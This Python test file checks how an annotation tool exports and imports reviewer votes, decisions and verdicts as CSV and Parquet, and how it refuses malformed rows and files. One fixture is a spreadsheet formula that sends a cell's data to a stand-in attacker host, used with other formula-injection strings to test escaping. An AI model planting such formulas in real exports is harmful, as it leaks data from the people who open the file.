"""Votes, decisions and verdicts as files, and back: what strangers wrote survives and runs nowhere."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from annotation.errors import AnnotationError
from annotation.events import CHOICES, MAX_NOTE, Flag, Remark, Ruling, Vote, clean_text
from annotation.interchange.table_files import (
    VOTES,
    decisions_table,
    escaped,
    flags_table,
    read_votes,
    unescaped,
    verdicts_table,
    votes_table,
    write_table,
)
from annotation.interchange.votes import Imported, Judgement, Refused, import_judgements, judgements
from annotation.outcomes import Verdict, verdicts
from annotation.store import Store, open_store
from tests.annotation.store_builders import (
    SHOWN,
    desk,
    entries,
    invite,
    key,
    open_round,
    reviewers,
    verifier_desk,
    vote_all,
)
from tests.annotation.vote_builders import START, event, ordinary

HEADER = "entry_id,reviewer,choice,shown_at,submitted_at"
TIMES = "2026-11-26T12:00:00+00:00,2026-11-26T12:00:09+00:00"
LATER = "2026-11-26T12:01:00+00:00,2026-11-26T12:01:09+00:00"
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"prize")'


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    opened = open_store(tmp_path / "store.sqlite3")
    yield opened
    opened.close()


def vote_row(note: str = "", reviewer: str = "Ann", frames: tuple[str, ...] = (), line: int = 2) -> Judgement:
    vote = Vote("positive", note, frames)
    return Judgement(1, "e1", "v1", reviewer, vote, START, START + timedelta(seconds=9), "sha256:0", line)


def read(path: Path, text: str) -> list[Judgement | Refused]:
    path.write_text(text, encoding="utf-8")
    return list(read_votes(path))


NOTES = st.one_of(
    st.text(max_size=60),
    st.builds(
        str.__add__, st.sampled_from(["=", "+", "-", "@", "'", "'=", "''@", "＝", "\t=", '"', ","]), st.text(max_size=9)
    ),
).map(clean_text)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.tuples(NOTES, NOTES, st.lists(NOTES, max_size=3), st.sampled_from(CHOICES)), max_size=5),
    st.sampled_from([".csv", ".parquet"]),
)
def test_what_was_written_is_read_back(
    tmp_path: Path, told: list[tuple[str, str, list[str], str]], suffix: str
) -> None:
    rows = [
        Judgement(7, f"e{n}", who, who or "x", Vote(choice, note, tuple(frames)), START, START, "sha256:0")  # type: ignore[arg-type]
        for n, (note, who, frames, choice) in enumerate(told)
    ]
    path = tmp_path / f"votes{suffix}"
    write_table(votes_table(rows), path)
    found = [row for row in read_votes(path) if isinstance(row, Judgement)]
    assert [vars(row) | {"line": 0} for row in found] == [vars(row) for row in rows]


@given(st.text())
def test_an_escaped_cell_gives_its_text_back_and_begins_no_formula(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert not escaped(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


def test_no_cell_of_a_csv_file_is_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "votes.csv"
    write_table(votes_table([vote_row(FORMULA, reviewer="@SUM(A1)", frames=("-x:0",))]), path)
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_every_refused_row_is_named_with_its_line_and_reason(tmp_path: Path) -> None:
    text = "\n".join(
        [
            HEADER + ",note,excluded_frames",
            f"e1,,positive,{TIMES},,",
            f'e1,Ann,positive,{TIMES},"two\nlines",',
            f"e1,Ann,maybe,{TIMES},,",
            f",Ann,positive,{TIMES},,",
            "e1,Ann,positive,2026-11-26T12:00:00,2026-11-26T12:00:09+00:00,,",
            "e1,Ann,positive,yesterday,today,,",
            f"e1,Ann,positive,{TIMES},{'n' * (MAX_NOTE + 1)},",
            f"e1,Ann,positive,{TIMES},,notalist",
            f"e1,Ann,positive,{TIMES},,{'[' * 9_000}",
            "e1,Ann",
        ]
    )
    said = {
        2: "no reviewer",
        5: "'maybe'",
        6: "no entry_id",
        7: "time zone",
        8: "yesterday",
        9: "2,001 characters",
        10: "notalist",
        11: "excluded_frames",
        12: "2 cells under 7",
    }
    found = {row.line: row.reason for row in read(tmp_path / "votes.csv", text) if isinstance(row, Refused)}
    assert found.keys() == said.keys()
    assert [reason for line, reason in found.items() if said[line] not in reason] == []


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("votes.csv", b"entry_id,reviewer,shown_at,submitted_at\n", "no column choice"),
        ("votes.csv", b"", "no column entry_id"),
        ("votes.csv", b"\xff\xfe\x00e", "UTF-8"),
        ("votes.csv", HEADER.encode() + b"\n" + b"\xe9" * 9, "UTF-8"),
        ("votes.csv", f"{HEADER}\n{'e' * 1_000_000},Ann,positive,{TIMES}\n".encode(), "line 2: field larger"),
        ("votes.xlsx", b"PK\x03\x04nonsense", "neither"),
        ("votes.parquet", b"PK\x03\x04nonsense", "no Parquet file"),
    ],
    ids=["no choice", "empty", "utf-16", "latin-1", "a cell of a megabyte", "xlsx", "no parquet"],
)
def test_a_file_that_holds_no_votes_is_refused_with_the_reason(
    tmp_path: Path, name: str, content: bytes, said: str
) -> None:
    (tmp_path / name).write_bytes(content)
    with pytest.raises(AnnotationError, match=said):
        list(read_votes(tmp_path / name))


def test_a_table_without_votes_has_its_columns(tmp_path: Path) -> None:
    path = tmp_path / "votes.csv"
    write_table(votes_table([]), path)
    assert path.read_text(encoding="utf-8").strip().split(",") == VOTES.names
    assert list(read_votes(path)) == []


def test_a_byte_order_mark_of_a_spreadsheet_does_no_harm(tmp_path: Path) -> None:
    assert isinstance(read(tmp_path / "votes.csv", f"\ufeff{HEADER}\ne1,Ann,positive,{TIMES}\n")[0], Judgement)


def test_a_parquet_file_with_other_types_refuses_its_rows_and_not_the_file(tmp_path: Path) -> None:
    path = tmp_path / "votes.parquet"
    row = {"entry_id": 3, "reviewer": "Ann", "choice": 1.5, "shown_at": 4, "submitted_at": "2026-11-26T12:00:09Z"}
    pq.write_table(pa.Table.from_pylist([row]), path)
    assert [type(each) for each in read_votes(path)] == [Refused]


def test_reading_is_lazy_so_that_a_huge_file_is_never_held(tmp_path: Path) -> None:
    path = tmp_path / "votes.csv"
    path.write_text(f"{HEADER}\n" + f"e1,Ann,positive,{TIMES}\n" * 50_000, encoding="utf-8")
    with path.open("ab") as file:
        file.write(b"\xff\n")
    rows = read_votes(path)
    assert isinstance(next(rows), Judgement)  # the bad byte at the end has not been met


def test_a_file_that_cannot_be_finished_leaves_the_old_one(tmp_path: Path) -> None:
    path = tmp_path / "votes.csv"
    write_table(votes_table([vote_row("old")]), path)
    not_utf8 = pa.Array.from_buffers(pa.string(), 1, pa.array([b"\xff"]).buffers())
    broken = pa.Table.from_arrays([not_utf8], ["note"])
    with pytest.raises(UnicodeDecodeError):
        write_table(broken, path)
    assert "old" in path.read_text(encoding="utf-8")
    assert list(tmp_path.iterdir()) == [path]


def test_decisions_and_verdicts_are_exported(store: Store, tmp_path: Path) -> None:
    round_ = open_round(store, 2)
    people, (verifier,) = reviewers(store), invite(store, "Vera", role="verifier")
    one, two = (each.id for each in entries(2))
    vote_all(store, round_, people, ["positive"] * 5, one)
    vote_all(store, round_, people, ["uncertain"] * 5, two)
    own = verifier_desk(store, verifier, round_)
    own.discuss(two, Remark("=1+1"), seen=own.entry(two).revision, key=key(), shown_at=SHOWN)
    own.settle(two, Ruling("negative", "agreed"), seen=own.entry(two).revision, key=key(), shown_at=SHOWN)
    table = decisions_table(store.events(round_.id), store.rounds.entries(round_.id), {verifier.id: "Vera"})
    assert table.select(["kind", "label", "note", "verifier"]).to_pylist() == [
        {"kind": "discuss", "label": None, "note": "=1+1", "verifier": "Vera"},
        {"kind": "settle", "label": "negative", "note": "agreed", "verifier": "Vera"},
    ]
    table = verdicts_table(verdicts(store, round_.id))
    assert {tuple(row.values()) for row in table.select(["video_id", "state", "label", "agreement"]).to_pylist()} == {
        ("v0", "agreed", "positive", 1.0),
        ("v1", "settled", "negative", 0.0),
    }
    write_table(table, tmp_path / "verdicts.csv")
    assert "v1,settled,negative,discussion,5,0.0,[]" in (tmp_path / "verdicts.csv").read_text(encoding="utf-8")


def test_flags_that_stand_are_exported(store: Store, tmp_path: Path) -> None:
    round_, (ann, bob) = open_round(store), invite(store, "Ann", "Bob")
    (entry,) = (each.id for each in entries(1))
    for person in (ann, bob):
        desk(store, person, round_).flag(entry, Flag("not_an_ad", "=trailer"), key=key(), shown_at=SHOWN)
    desk(store, bob, round_).unflag(entry, key=key(), shown_at=SHOWN)
    table = flags_table(store.events(round_.id), store.rounds.entries(round_.id), {ann.id: "Ann"})
    write_table(table, tmp_path / "flags.csv")
    (_, row) = (tmp_path / "flags.csv").read_text(encoding="utf-8").splitlines()
    assert row.startswith(f"1,{entry},v0,Ann,not_an_ad,'=trailer,")


def test_a_verdict_of_an_excluded_ad_has_no_label() -> None:
    (row,) = verdicts_table([Verdict("v", "e", 1, "excluded", None, (), START)]).to_pylist()
    undecided = dict.fromkeys(("label", "decided_by", "n_reviewers", "agreement", "decided_blind"))
    assert row == {"round_id": 1, "entry_id": "e", "video_id": "v", "state": "excluded"} | undecided | {
        "excluded_frames": [],
        "at": START,
    }


def test_only_votes_that_count_are_exported() -> None:
    events = [event(1, "e", "a", Vote("positive")), event(2, "e", "a", Vote("negative"), supersedes=1)]
    assert [row.vote.choice for row in judgements(events, ordinary("e"), {"a": "Ann"})] == ["negative"]


def test_imported_votes_are_their_reviewers_events_with_the_times_of_the_file(store: Store, tmp_path: Path) -> None:
    round_, (ann,), entry = open_round(store), invite(store, "Ann"), entries(1)[0].id
    path = tmp_path / "votes.csv"
    path.write_text(f"{HEADER},note\n{entry},ann,negative,{TIMES},why\n", encoding="utf-8")
    assert import_judgements(store, round_.id, read_votes(path)) == Imported(1, 0, ())
    (stored,) = store.events(round_.id)
    assert (stored.person_id, stored.payload, stored.shown_at) == (ann.id, Vote("negative", "why"), SHOWN)
    assert stored.submitted_at == SHOWN + timedelta(seconds=9)


def test_a_file_may_be_imported_again_and_into_the_round_it_came_from(store: Store, tmp_path: Path) -> None:
    round_, people = open_round(store), reviewers(store)
    desk(store, people[0], round_).vote(entries(1)[0].id, Vote("positive"), key=key(), shown_at=SHOWN)
    before = store.events(round_.id)
    names = {person.id: person.name for person in people}
    path = tmp_path / "votes.parquet"
    write_table(votes_table(judgements(before, store.rounds.entries(round_.id), names)), path)
    for _ in range(2):
        assert import_judgements(store, round_.id, read_votes(path)) == Imported(0, 1, ())
    assert store.events(round_.id) == before


def test_an_import_refuses_what_does_not_belong_and_takes_the_rest(store: Store, tmp_path: Path) -> None:
    round_, entry = open_round(store), entries(1)[0].id
    invite(store, "Ann")
    invite(store, "Vera", role="verifier")
    path = tmp_path / "votes.csv"
    head = f"{HEADER},round_id,video_id,excluded_frames"
    late = "2126-11-26T12:00:00+00:00,2126-11-26T12:00:09+00:00"
    path.write_text(
        "\n".join(
            [
                head,
                f"{entry},Ann,positive,{TIMES},1,v0,",
                f"{entry},Ann,positive,{TIMES},2,v0,",
                f"nosuch,Ann,positive,{TIMES},1,v0,",
                f"{entry},Ann,positive,{TIMES},1,v9,",
                f"{entry},Bob,positive,{TIMES},1,v0,",
                f"{entry},Vera,positive,{TIMES},1,v0,",
                f"{entry},Ann,positive,{late},1,v0,",
                f'{entry},Ann,negative,{LATER},1,v0,"[""v9:0""]"',
            ]
        ),
        encoding="utf-8",
    )
    found = import_judgements(store, round_.id, read_votes(path))
    assert (found.taken, [row.line for row in found.refused]) == (1, [3, 4, 5, 6, 7, 8, 9])
    said = ("round 2", "no entry 'nosuch'", "another ad", "'Bob'", "verifier", "no future", "no frame 'v9:0'")
    assert all(part in row.reason for part, row in zip(said, found.refused, strict=True))
    assert len(store.events(round_.id)) == 1
